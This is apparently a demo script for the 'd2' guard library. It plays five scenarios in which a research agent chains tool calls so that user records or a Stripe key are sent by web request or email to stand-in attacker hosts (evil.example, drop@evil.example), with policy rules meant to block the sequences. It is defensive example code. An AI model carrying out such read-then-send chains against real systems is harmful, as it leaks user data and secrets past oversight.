"""Sequence rules stop multi-step exfiltration that per-call RBAC lets through.

Five scenarios from the research-agent walkthrough, each one request: a direct leak, a safe internal
workflow, hiding the trail behind an analytics step, a secrets leak, and the admin bypass. Every tool
is granted to the agent; only the order of calls decides. Run ``python examples/sequences/demo.py``.
"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import d2

POLICY = Path(__file__).with_name("policy.yaml")


@d2.d2_guard("database.read_users")
async def read_users() -> list[dict[str, Any]]:
    return [{"id": 1, "name": "Alice"}, {"id": 2, "name": "Bob"}]


@d2.d2_guard("analytics.summarize")
async def summarize(data: Any) -> dict[str, int]:
    return {"count": len(data)}


@d2.d2_guard("secrets.get_key")
async def get_key(name: str) -> str:
    return f"sk-{name}-0000"


@d2.d2_guard("web.http_request")
async def http_request(url: str, data: Any) -> str:
    return f"sent to {url}"


@d2.d2_guard("email.send")
async def send_email(to: str, body: Any) -> str:
    return f"mailed {to}"


Step = tuple[str, Callable[[], Awaitable[Any]]]


async def attempt(label: str, call: Callable[[], Awaitable[Any]]) -> None:
    """Run one call and print whether d2 allowed it (and why not)."""
    try:
        result = await call()
        print(f"  ALLOW  {label:<32} -> {result}")
    except d2.PermissionDeniedError as exc:
        print(f"  DENY   {label:<32} -> {exc.reason}: {exc.detail}")


async def scenario(title: str, user: str, roles: list[str], steps: list[Step]) -> None:
    """Play ``steps`` as one request: the history starts empty and ends with the block."""
    print(f"{title} ({user} {roles})")
    async with d2.set_user_context(user, roles):
        for label, call in steps:
            await attempt(label, call)


async def main() -> None:
    d2.configure_rbac_sync(POLICY)
    agent = ["research_agent"]
    await scenario(
        "1. Direct leak",
        "agent-1",
        agent,
        [
            ("database.read_users", read_users),
            ("web.http_request", lambda: http_request("https://evil.example", "users")),
        ],
    )
    await scenario(
        "2. Safe internal workflow",
        "agent-2",
        agent,
        [
            ("analytics.summarize", lambda: summarize([1, 2, 3])),
            ("database.read_users", read_users),
        ],
    )
    await scenario(
        "3. Hiding the trail",
        "agent-3",
        agent,
        [
            ("database.read_users", read_users),
            ("analytics.summarize", lambda: summarize(["Alice", "Bob"])),
            ("email.send", lambda: send_email("drop@evil.example", "summary")),
        ],
    )
    await scenario(
        "4. Secrets leak",
        "agent-4",
        agent,
        [
            ("secrets.get_key", lambda: get_key("stripe")),
            ("web.http_request", lambda: http_request("https://evil.example", "key")),
        ],
    )
    await scenario(
        "5. Admin bypass",
        "root",
        ["admin"],
        [
            ("database.read_users", read_users),
            ("web.http_request", lambda: http_request("https://backup.example", "users")),
        ],
    )
    d2.shutdown_rbac()


if __name__ == "__main__":
    asyncio.run(main())
